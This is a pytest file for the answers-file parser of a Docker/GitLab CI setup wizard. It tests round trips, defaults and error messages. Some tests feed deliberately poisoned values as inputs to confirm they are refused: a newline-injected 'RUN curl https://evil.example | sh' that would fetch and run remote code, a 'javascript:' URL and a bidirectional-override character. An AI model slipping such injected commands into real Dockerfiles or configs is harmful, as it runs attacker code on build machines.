"""wizard/plan.py: the answers file's load/save round trip, and refusals that name key, line and what is allowed."""

from __future__ import annotations

import dataclasses

import pytest

from dockwright.wizard.answers_file import dump_answers, load_answers, parse_answers, save_answers
from dockwright.wizard.errors import EXIT_BAD_INPUT, AnswersError
from dockwright.wizard.plan import Plan, RegistrySpec, VariableSpec, replace_in

ISSUE_EXAMPLE = """\
version: 1
gitlab: {url: https://gitlab.com, project: group/sub/app}
executor: docker-dind-tls   # hosted | shell | docker-dind-tls | docker-dind | docker-socket
runner: {create: true, workflow: authentication-token, description: My Docker Runner, tags: [docker],
         run_untagged: false, protected: false, docker_image: "docker:27-cli",
         config_path: /etc/gitlab-runner/config.toml}      # workflow: authentication-token | registration-token
registry: {kind: gitlab}    # gitlab | dockerhub | ecr | other (+ image/host/region/account as each needs)
variables: [{key: DOCKERHUB_TOKEN, from_env: DOCKERHUB_TOKEN, masked: true, protected: true}]
dockerfile: {base_image: "python:3.13-slim", workdir: /app, requirements: requirements.txt, port: 8000,
             env: {NAME: World}, command: [python, app.py], non_root: true}
pipeline: {docker_version: "27", stages: [build, release], latest_on_default_branch: true}
git: {branch: main, commit_message: "Add Dockerfile and CI/CD pipeline configuration"}
"""


def test_the_issues_example_loads() -> None:
    plan = parse_answers(ISSUE_EXAMPLE)
    assert plan.gitlab.project == "group/sub/app"
    assert plan.variables == (VariableSpec(key="DOCKERHUB_TOKEN", from_env="DOCKERHUB_TOKEN", masked=True, protected=True),)
    assert plan.dockerfile.env == (("NAME", "World"),) and plan.dockerfile.command == ("python", "app.py")
    assert plan.pipeline.docker_version == "27" and plan.job_tags == ("docker",)


def test_missing_keys_take_the_defaults_given() -> None:
    defaults = replace_in(Plan(), "gitlab", project="detected/app")
    plan = parse_answers("executor: shell\nrunner: {tags: [linux]}\n", defaults)
    assert plan.gitlab.project == "detected/app" and plan.executor == "shell"
    assert plan.runner.tags == ("linux",) and plan.runner.description == Plan().runner.description


def test_numbers_read_as_text_where_text_is_expected() -> None:
    assert parse_answers("pipeline: {docker_version: 29}\n").pipeline.docker_version == "29"


@pytest.mark.parametrize("text, key, shown_as", [
    ("pipeline:\n  docker_version: 20.10\n", "pipeline.docker_version", "20.1"),  # issue 17 item 1: docker:20.1-cli
    ("pipeline: {docker_version: 29.0}\n", "pipeline.docker_version", "29.0"),
    ("registry: {kind: ecr, image: app, region: eu-west-1, account: 012345678901}\n", "registry.account",
     "12345678901"),  # the leading zero YAML drops
    ("dockerfile:\n  env: {VERSION: 1.10}\n", "dockerfile.env.VERSION", "1.1"),
])
def test_a_yaml_number_where_text_is_expected_is_refused_unless_exact(text: str, key: str, shown_as: str) -> None:
    """An unquoted 20.10 is the float 20.1 to YAML: the file would silently say something else than it shows."""
    with pytest.raises(AnswersError) as info:
        parse_answers(text, path="dockwright.yml")
    err = info.value
    assert err.key == key and err.line is not None, str(err)
    assert f"the number {shown_as}" in str(err) and "quotes" in err.allowed, str(err)


def test_dump_then_load_is_the_same_plan() -> None:
    plan = dataclasses.replace(
        replace_in(parse_answers(ISSUE_EXAMPLE), "dockerfile", env=(("A", "1"), ("B", "x y"))),
        registry=RegistrySpec(kind="ecr", image="app", region="eu-west-1", account="123456789012"),
        variables=(VariableSpec(key="AWS_ACCESS_KEY_ID", masked=True, description="id"),),
    )
    assert parse_answers(dump_answers(plan)) == plan


def test_fresh_dump_is_commented_and_holds_no_secret_value() -> None:
    text = dump_answers(Plan(variables=(VariableSpec(key="TOKEN", from_env="MY_TOKEN", masked=True),)))
    assert text.startswith("# dockwright answers file") and "never a secret" in text
    assert "executor: docker-dind-tls  # how jobs run Docker" in text
    assert "value" not in text.replace("values", "")


def test_save_keeps_the_users_comments_and_layout(tmp_path) -> None:
    path = tmp_path / "dockwright.yml"
    path.write_text(ISSUE_EXAMPLE)
    plan = replace_in(load_answers(path), "runner", tags=("docker", "fast"))
    save_answers(plan, path)
    text = path.read_text()
    for comment in ("# hosted | shell | docker-dind-tls", "# workflow: authentication-token | registration-token",
                    "# gitlab | dockerhub | ecr | other"):
        assert comment in text
    assert load_answers(path) == plan
    assert text.index("gitlab:") < text.index("executor:") < text.index("runner:")
    save_answers(plan, path)
    assert path.read_text() == text  # saving the same plan again changes nothing


@pytest.mark.parametrize("text,key,line,allowed", [
    ("version: 1\nexecuter: shell\n", "executer", 2, "executor"),
    ("executor: kubernetes\n", "executor", 1, "docker-dind-tls"),
    ("runner:\n  create: yes please\n", "runner.create", 2, "true or false"),
    ("runner:\n  tags: docker\n", "runner.tags", 2, "a list"),
    ("runner:\n  colour: red\n", "runner.colour", 2, "workflow"),
    ("dockerfile:\n  port: 99999\n", "dockerfile.port", 2, "1 to 65535"),
    ("dockerfile:\n  port: '8000'\n", "dockerfile.port", 2, "a whole number"),
    ("dockerfile:\n  env: {BAD-NAME: x}\n", "dockerfile.env.BAD-NAME", 2, "letters, digits and _"),
    ("registry: {kind: quay}\n", "registry.kind", 1, "gitlab | dockerhub | ecr | other"),
    ("registry:\n  kind: ecr\n  image: app\n  region: eu-west-1\n  account: '12'\n", "registry.account", 5, "12-digit"),
    ("variables:\n  - key: CI_REGISTRY_PASSWORD\n", "variables[0].key", 2, "a name of your own"),
    ("registry: {kind: dockerhub, image: alice/app}\nvariables:\n  - key: CI_REGISTRY_USER\n", "variables[0].key", 3,
     "without the CI_ or GITLAB_ prefix"),
    ("registry:\n  kind: dockerhub\n  image: Bad Name!\n", "registry.image", 3, "repository name such as user/app"),
    ("registry:\n  kind: other\n  host: r.example.com\n  image: ':Latest Tag'\n", "registry.image", 4, "no tag"),
    ("dockerfile:\n  base_image: Python 3\n", "dockerfile.base_image", 2, "python:3.13-slim"),
    ("runner:\n  docker_image: docker:27-CLI!\n", "runner.docker_image", 2, "optional :tag"),
    ("variables:\n  - {key: A, hidden: true}\n", "variables[0].hidden", 2, "masked: true"),
    ("variables:\n  - {key: A, value: secret}\n", "variables[0].value", 2, "from_env"),
    ("pipeline: {stages: [build]}\n", "pipeline.stages", 1, "[build, release]"),
    ("pipeline:\n  docker_version: latest\n", "pipeline.docker_version", 2, "29 or 29.7.2"),
    ("runner:\n  tags: [docker, 'a,b']\n", "runner.tags", 2, "without commas"),
    ("variables:\n  - key: A\n  - key: B\n    from_env: not-a-name\n", "variables[1].from_env", 4, "environment variable"),
    ("version: 2\n", "version", 1, "1"),
    ("a: [b\n", "(file)", 2, "YAML"),
    ("- a\n", "(file)", 1, "a mapping"),
])
def test_bad_answers_name_key_line_and_allowed(text: str, key: str, line: int, allowed: str) -> None:
    with pytest.raises(AnswersError) as info:
        parse_answers(text, path="dockwright.yml")
    err = info.value
    assert err.key == key and err.line == line and allowed in err.allowed, str(err)
    assert err.exit_code == EXIT_BAD_INPUT
    assert str(err).startswith(f"dockwright.yml:{line}: `{key}`") and "Allowed:" in str(err)


def test_missing_file_says_how_to_create_one(tmp_path) -> None:
    with pytest.raises(AnswersError, match="init-answers"):
        load_answers(tmp_path / "dockwright.yml")


def _text_fields(cls: type, prefix: str = "") -> set[str]:
    """Every text field of a Plan section, read from the type hints (what a new field would add)."""
    import typing

    out: set[str] = set()
    for f in dataclasses.fields(cls):
        tp, key = typing.get_type_hints(cls)[f.name], f"{prefix}{f.name}"
        if dataclasses.is_dataclass(tp):
            out |= _text_fields(tp, key + ".")
        elif typing.get_origin(tp) is tuple:
            inner = typing.get_args(tp)[0]
            if dataclasses.is_dataclass(inner):
                out |= _text_fields(inner, key + "[0].")
            else:
                out.add(f"{key}.NAME" if f.metadata.get("mapping") else f"{key}[0]")
        elif str in (typing.get_args(tp) or (tp,)):
            out.add(key)
    return out


def test_the_one_text_rule_covers_every_text_field() -> None:
    """Each text field with a line break is refused under its own key; a new field is covered without a change."""
    from dockwright.wizard.plan import EcrSpec, GitLabSpec, KubernetesSpec, text_problems

    poisoned = "x\nRUN curl https://evil.example | sh"
    plan = Plan(
        gitlab=GitLabSpec(url=poisoned, project=poisoned),
        executor=poisoned,
        runner=dataclasses.replace(Plan().runner, workflow=poisoned, description=poisoned, tags=(poisoned,),
                                   docker_image=poisoned, config_path=poisoned,
                                   kubernetes=KubernetesSpec(namespace=poisoned, helm_values_path=poisoned)),
        registry=RegistrySpec(kind=poisoned, image=poisoned, host=poisoned, region=poisoned, account=poisoned,
                              ecr=EcrSpec(auth=poisoned, role_arn=poisoned)),
        variables=(VariableSpec(key=poisoned, from_env=poisoned, variable_type=poisoned, environment_scope=poisoned,
                                description=poisoned),),
        dockerfile=dataclasses.replace(Plan().dockerfile, language=poisoned, base_image=poisoned, workdir=poisoned,
                                       runtime_image=poisoned, tool=poisoned, target=poisoned, requirements=poisoned, env=(("NAME", poisoned),), command=(poisoned,),
                                       path=poisoned, context=poisoned),
        pipeline=dataclasses.replace(Plan().pipeline, docker_version=poisoned, stages=(poisoned,)),
        git=dataclasses.replace(Plan().git, branch=poisoned, commit_message="Add CI\x1b[2J"),
    )
    refused = {key for key, _problem, _allowed in text_problems(plan)}
    assert refused == _text_fields(Plan)
    assert text_problems(replace_in(Plan(), "git", commit_message="Add CI\n\nWith a body\tand a tab")) == []


@pytest.mark.parametrize(("yaml", "key", "problem"), [
    ('dockerfile: {base_image: "x\\nRUN curl e | sh"}', "dockerfile.base_image", "has a line break"),
    ('runner: {tags: ["a\\u2028b"]}', "runner.tags[0]", "has a line break"),
    ('runner: {description: "a\\u202eb"}', "runner.description", "text-direction character U+202E"),
    ('runner: {description: ""}', "runner.description", "is empty"),
    ('runner: {docker_image: " "}', "runner.docker_image", "is empty"),
    ('dockerfile: {base_image: ""}', "dockerfile.base_image", "is empty"),
    ("variables: [{key: A, environment_scope: ''}]", "variables[0].environment_scope", "is empty"),
    ("gitlab: {url: 'http://u:p@gitlab.example.com'}", "gitlab.url", "has a user name or password in it"),
    ("gitlab: {url: 'javascript:alert(1)'}", "gitlab.url", "does not start with https://"),
])
def test_single_line_and_empty_values_are_refused_with_key_and_line(yaml: str, key: str, problem: str) -> None:
    with pytest.raises(AnswersError) as info:
        parse_answers(yaml + "\n", path="dockwright.yml")
    assert info.value.key == key and problem in info.value.sentence and info.value.line == 1
    assert info.value.exit_code == EXIT_BAD_INPUT


def test_an_empty_url_still_means_find_it_elsewhere() -> None:
    assert parse_answers("gitlab: {url: '', project: a/b}\n").gitlab.url == ""


def test_a_token_is_never_echoed_by_an_answers_error() -> None:
    token = "glpat-abcdefghij0123456789"
    for yaml in (f"variables: [{{key: A, from_env: {token}}}]", f"executor: {token}", f"version: {{x: {token}}}",
                 f"variables: [{{key: {token}}}]", f"dockerfile: {{port: {token}}}"):
        with pytest.raises(AnswersError) as info:
            parse_answers(yaml + "\n")
        assert token not in str(info.value) and "looks like a token, not shown" in str(info.value), yaml
    with pytest.raises(AnswersError) as info:
        parse_answers(f"variables: [{{key: A, from_env: {token}}}]\n")
    assert "not the value" in info.value.next_step


@pytest.mark.parametrize("text", ["", "# only a comment\n# and another\n", "null\n", "---\n", "{}\n"])
def test_an_answers_file_without_answers_says_so(text: str) -> None:
    notes: list[str] = []
    plan = parse_answers(text, defaults=Plan(), path="dockwright.yml", notes=notes)
    assert plan == Plan()
    assert len(notes) == 1 and "dockwright.yml holds no answers" in notes[0] and "default" in notes[0]
    parse_answers("executor: shell\n", notes=notes)
    assert len(notes) == 1  # a file with answers gets no note


@pytest.mark.parametrize(("executor", "kind", "method"), [
    ("hosted", "hosted", "dind-tls"), ("shell", "shell", "host"), ("docker-socket", "docker", "socket"),
    ("docker-buildkit-rootless", "docker", "buildkit-rootless"), ("kubernetes-dind-tls", "kubernetes", "dind-tls"),
    ("kubernetes-buildah", "kubernetes", "buildah"),
])
def test_runner_kind_and_build_method_come_from_the_executor(executor: str, kind: str, method: str) -> None:
    plan = Plan(executor=executor)
    assert (plan.runner_kind, plan.build_method) == (kind, method)
    assert plan.daemonless is (method in ("buildkit-rootless", "buildah"))


def test_a_kubernetes_runner_round_trips_through_the_answers_file() -> None:
    """Issue 14: runner.kubernetes {namespace, helm_values_path} for the Kubernetes executors."""
    plan = parse_answers("executor: kubernetes-buildah\nrunner:\n  kubernetes: {namespace: ci-builds, "
                         "helm_values_path: deploy/runner-values.yaml}\n")
    assert plan.executor == "kubernetes-buildah"
    assert (plan.runner.kubernetes.namespace, plan.runner.kubernetes.helm_values_path) == (
        "ci-builds", "deploy/runner-values.yaml")
    assert parse_answers(dump_answers(plan)) == plan


@pytest.mark.parametrize(("yaml", "key", "allowed"), [
    ("executor: kubernetes-dind-tls\nrunner: {kubernetes: {namespace: CI_Builds}}\n", "runner.kubernetes.namespace",
     "a Kubernetes namespace"),
    ("executor: kubernetes-buildah\nrunner: {kubernetes: {helm_values_path: ../values.yaml}}\n",
     "runner.kubernetes.helm_values_path", "a file in the repository"),
    ("executor: docker-buildkit-rootless\nregistry: {kind: ecr, image: app, region: eu-west-1, account: '123456789012'}\n",
     "executor", "another build method for ECR"),
])
def test_kubernetes_and_build_method_answers_are_checked(yaml: str, key: str, allowed: str) -> None:
    with pytest.raises(AnswersError) as caught:
        parse_answers(yaml)
    assert caught.value.key == key and allowed in str(caught.value)
